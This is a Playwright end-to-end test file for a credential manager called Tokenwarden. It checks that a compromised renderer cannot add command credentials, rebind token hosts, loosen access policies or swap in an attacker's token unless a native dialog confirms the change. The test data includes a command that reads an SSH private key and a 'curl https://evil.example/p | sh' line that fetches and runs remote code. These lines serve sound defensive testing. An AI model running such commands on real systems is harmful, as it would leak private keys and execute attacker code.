import { expect, test } from '../fixtures/e2e-app.ts';

const COMMAND = "/bin/sh -c 'cat ~/.ssh/id_ed25519'";

test('E5 adding a command credential that is not confirmed in the native dialog is refused with a clear coded error', async ({ app, page }) => {
  await app.open();
  await page.getByRole('button', { name: 'Add credential' }).click();
  const dialog = page.getByRole('dialog', { name: 'Add a credential' });
  await dialog.getByRole('tab', { name: 'Command' }).click();
  await dialog.getByLabel('Name').fill('sneaky');
  await dialog.getByLabel('Bound hosts').fill('https://api.example.com');
  await dialog.getByRole('textbox', { name: 'Command' }).fill(COMMAND);
  await dialog.getByRole('button', { name: 'Add credential' }).click();

  const alert = dialog.getByRole('alert');
  await expect(alert).toContainText('This change needs your confirmation in a Tokenwarden system dialog.');
  await expect(alert).toContainText('Running this command was not confirmed');
  await expect(alert).toContainText('(ERR_CONFIRMATION_REQUIRED)');
  // Main's dialog was shown the exact command, and nothing was stored.
  expect(app.confirm.asked).toEqual([
    { action: 'add', name: 'sneaky', command: { next: COMMAND, previous: null }, hosts: { added: ['https://api.example.com'], removed: [], kept: [] } },
  ]);
  expect(await app.service.list()).toEqual([]);
});

test('E5 a compromised renderer calling the bridge directly cannot rebind a token or set a command', async ({ app, page }) => {
  await app.service.add({ kind: 'static', name: 'gh', hosts: ['https://api.github.com'], token: 'tok_e2e_rebind_1234' });
  await app.open();
  const results = await page.evaluate(async () => {
    const tw = (window as unknown as { tokenwarden: Record<string, (...a: unknown[]) => Promise<unknown>> }).tokenwarden;
    return [
      await tw.update!('gh', { hosts: ['https://evil.example'] }),
      await tw.add!({ kind: 'exec', name: 'x', hosts: ['https://api.example.com'], command: 'curl https://evil.example/p | sh' }),
    ];
  });
  for (const result of results) expect(result).toMatchObject({ ok: false, error: { code: 'ERR_CONFIRMATION_REQUIRED' } });
  expect((await app.service.get('gh')).hosts).toEqual(['https://api.github.com']);
  expect((await app.service.list()).map((s) => s.name)).toEqual(['gh']);
});

test('E5 clearing a one-use policy from the window is refused unless the native dialog confirms it', async ({ app, page }) => {
  await app.service.add({ kind: 'static', name: 'once', hosts: ['https://api.example.com'], token: 'tok_e2e_policy_1234' });
  await app.service.setPolicy('once', { methods: ['GET'], maxUses: 1 });
  await app.open();
  const clear = () => page.evaluate(() => (window as unknown as { tokenwarden: { setPolicy(n: string, p: null): Promise<unknown> } }).tokenwarden.setPolicy('once', null));
  expect(await clear()).toMatchObject({ ok: false, error: { code: 'ERR_CONFIRMATION_REQUIRED', message: expect.stringContaining('Loosening this access policy') } });
  expect((await app.service.get('once')).policy).toEqual({ methods: ['GET'], maxUses: 1 });
  expect(app.confirm.asked).toEqual([{ action: 'update', name: 'once', policy: { loosened: ['Any method (was GET)', 'Unlimited uses (was 1)'], before: 'methods GET · 1 use', after: 'no limits' } }]);
  app.confirm.answer = true;
  expect(await clear()).toMatchObject({ ok: true });
  expect((await app.service.get('once')).policy).toBeUndefined();
});

test('E5 the same add goes through once the native dialog is confirmed', async ({ app, page }) => {
  app.confirm.answer = true;
  await app.open();
  const result = await page.evaluate(() =>
    (window as unknown as { tokenwarden: { add(i: unknown): Promise<unknown> } }).tokenwarden.add({
      kind: 'exec',
      name: 'printer',
      hosts: ['https://api.example.com'],
      command: 'printf tok_from_command_5678',
    }),
  );
  expect(result).toMatchObject({ ok: true, value: { name: 'printer', kind: 'exec' } });
  expect(app.confirm.asked).toHaveLength(1);
});

test('E9 a compromised renderer cannot loosen the Authorization policy or swap in its own token without the native dialog', async ({ app, page }) => {
  await app.service.add({ kind: 'static', name: 'gh', hosts: ['https://api.github.com'], token: 'tok_e2e_users_own_1234' });
  await app.open();
  const widen = () =>
    page.evaluate(async () => {
      const tw = (window as unknown as { tokenwarden: Record<string, (...a: unknown[]) => Promise<unknown>> }).tokenwarden;
      return [await tw.update!('gh', { authPolicy: 'force' }), await tw.rotate!('gh', { token: 'tok_e2e_attackers_9f3c' })];
    });
  const [policy, rotate] = await widen();
  expect(policy).toMatchObject({ ok: false, error: { code: 'ERR_CONFIRMATION_REQUIRED', message: expect.stringContaining('Loosening the Authorization policy') } });
  expect(rotate).toMatchObject({ ok: false, error: { code: 'ERR_CONFIRMATION_REQUIRED', message: expect.stringContaining('Replacing the token') } });
  expect(await app.service.get('gh')).toMatchObject({ authPolicy: 'reject', tokenTail: '1234' });
  expect(app.confirm.asked).toEqual([
    { action: 'update', name: 'gh', authPolicy: { next: 'force', previous: 'reject' } },
    { action: 'rotate', name: 'gh', token: { tail: '9f3c', previousTail: '1234' } },
  ]);
  app.confirm.answer = true;
  for (const result of await widen()) expect(result).toMatchObject({ ok: true });
  expect(await app.service.get('gh')).toMatchObject({ authPolicy: 'force', tokenTail: '9f3c' });
});
